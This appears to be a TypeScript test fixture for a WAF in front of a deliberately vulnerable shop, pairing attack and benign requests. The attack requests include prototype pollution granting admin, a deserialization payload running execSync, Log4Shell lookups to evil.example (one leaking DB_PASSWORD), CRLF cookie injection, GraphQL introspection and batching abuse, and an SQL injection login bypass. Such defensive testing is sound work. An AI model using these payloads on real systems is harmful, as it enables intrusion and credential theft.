// Holes in how the shop reads objects, log lines, headers and queries: prototype pollution, deserialization, look-ups,
// response splitting, GraphQL.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are look-ups

import { ask, get, type Hole, post, send } from './hole.ts'

const mark = '_$$ND_FUNC$$_'
const command = `${mark}function(){ return require('child_process').execSync('id').toString() }()`
const cookieOf = (cart: unknown) => ({ cookie: `cart=${Buffer.from(JSON.stringify(cart)).toString('base64')}` })

const objects: readonly Hole[] = [
  {
    name: '__proto__ makes everybody an admin',
    kind: 'prototype-pollution',
    stoppedBy: 'waf',
    login: true,
    attack: { ...send('PATCH', '/profile', {}), body: '{"name":"Alice","__proto__":{"isAdmin":true}}' },
    proves: /"session":\{"isAdmin":true/,
    benign: send('PATCH', '/profile', { name: 'Alice Moreau', settings: { theme: 'dark' } }),
  },
  {
    name: 'constructor.prototype does so too, deep inside',
    kind: 'prototype-pollution',
    stoppedBy: 'waf',
    login: true,
    attack: send('PATCH', '/profile', { settings: { constructor: { prototype: { isAdmin: true } } } }),
    proves: /"session":\{"isAdmin":true/,
    benign: send('PATCH', '/profile', { settings: { newsletter: false, theme: 'light' } }),
  },
  {
    name: 'a cart that brings a function',
    kind: 'deserialization',
    stoppedBy: 'waf',
    attack: send('POST', '/session', { items: [1], coupon: command }),
    proves: /uid=33\(www-data\)/,
    benign: send('POST', '/session', { items: [1, 4, 4], coupon: 'WELCOME10' }),
  },
  {
    name: 'a cart that brings a function, in a cookie in base64',
    kind: 'deserialization',
    stoppedBy: 'waf',
    attack: get('/session', cookieOf({ items: [], coupon: command })),
    proves: /uid=33\(www-data\)/,
    benign: get('/session', cookieOf({ items: [2, 5], coupon: 'WELCOME10' })),
  },
]

const lookUps: readonly Hole[] = [
  {
    name: 'a look-up in a log message',
    kind: 'log4shell',
    stoppedBy: 'waf',
    attack: send('POST', '/log', { message: '${jndi:ldap://evil.example:1389/a}' }),
    proves: /javaClassName: demo\.Payload from ldap:/,
    benign: send('POST', '/log', { message: 'TypeError: cart is undefined at checkout.js:42:7' }),
  },
  {
    name: 'a look-up in disguise',
    kind: 'log4shell',
    stoppedBy: 'waf',
    attack: send('POST', '/log', { message: '${${lower:j}${::-n}di:${lower:l}dap://evil.example/${env:DB_PASSWORD}}' }),
    proves: /demo\.Payload from ldap:\/\/evil\.example\/demo-db-password/,
    benign: send('POST', '/log', { message: 'Price shown as ${price} on the page of the boots' }),
  },
  {
    name: 'a look-up in the user agent',
    kind: 'log4shell',
    stoppedBy: 'waf',
    attack: {
      ...send('POST', '/log', { message: 'hello' }),
      headers: { 'content-type': 'application/json', 'user-agent': '${jndi:rmi://evil.example/x}' },
    },
    proves: /demo\.Payload from rmi:/,
    benign: {
      ...send('POST', '/log', { message: 'hello' }),
      headers: {
        'content-type': 'application/json',
        'user-agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)',
      },
    },
  },
]

const headers: readonly Hole[] = [
  {
    name: 'a line break in a redirect sets a cookie',
    kind: 'crlf',
    stoppedBy: 'waf',
    attack: get('/redirect?to=/products%0d%0aSet-Cookie:%20shop_session=fixed'),
    proves: /^set-cookie: shop_session=fixed/m,
    benign: get('/redirect?to=/products'),
  },
]

const deep = (levels: number, inner: string): string =>
  levels === 0 ? inner : `orders { user { ${deep(levels - 1, inner)} } }`
const guesses = Array.from({ length: 100 }, (_, i) => `g${i}: coupon(code: "KEEP-7C${i + 1}") { percent }`).join(' ')
const introspection = '{ __schema { queryType { fields { name args { name } } } types { name fields { name } } } }'

const queries: readonly Hole[] = [
  {
    name: 'GraphQL tells of fields that nobody should know',
    kind: 'graphql',
    stoppedBy: 'waf',
    attack: send('POST', '/graphql', { query: introspection }),
    proves: /internalDebug/,
    benign: send('POST', '/graphql', { query: '{ product(id: 1) { __typename name price } }' }),
  },
  {
    name: 'GraphQL tells it by GET as well',
    kind: 'graphql',
    stoppedBy: 'waf',
    attack: ask('/graphql', 'query', 'query IntrospectionQuery { __schema { types { name fields { name } } } }'),
    proves: /internalDebug/,
    benign: ask('/graphql', 'query', '{ product(id: 1) { name price } }'),
  },
  {
    name: 'GraphQL goes as deep as asked',
    kind: 'graphql',
    stoppedBy: 'waf',
    attack: send('POST', '/graphql', { query: `{ user(id: 1) { ${deep(20, 'name')} } }` }),
    proves: /(?:"orders":\[\{"user":\{){20}"name":"Ada Keeper"/,
    benign: send('POST', '/graphql', { query: '{ user(id: 2) { name orders { total product { name } } } }' }),
  },
  {
    name: 'GraphQL takes a hundred guesses in one request',
    kind: 'graphql',
    stoppedBy: 'waf',
    attack: send('POST', '/graphql', { query: `{ ${guesses} }` }),
    proves: /"percent":50/,
    benign: send('POST', '/graphql', {
      query: '{ a: coupon(code: "WELCOME10") { percent } b: product(id: 1) { name } }',
    }),
  },
]

const types: readonly Hole[] = [
  {
    name: 'JSON that says it is text: the body is judged all the same',
    kind: 'sqli',
    stoppedBy: 'waf',
    attack: post('/login', 'text/plain', '{"email":"x","password":"\' OR 1=1 -- "}'),
    proves: /"role":"admin"/,
    benign: post('/login', 'application/json; charset=utf-8', '{"email":"bob@mail.example","password":"builder-9"}'),
  },
]

export const objectHoles: readonly Hole[] = [...objects, ...lookUps, ...headers, ...queries, ...types]
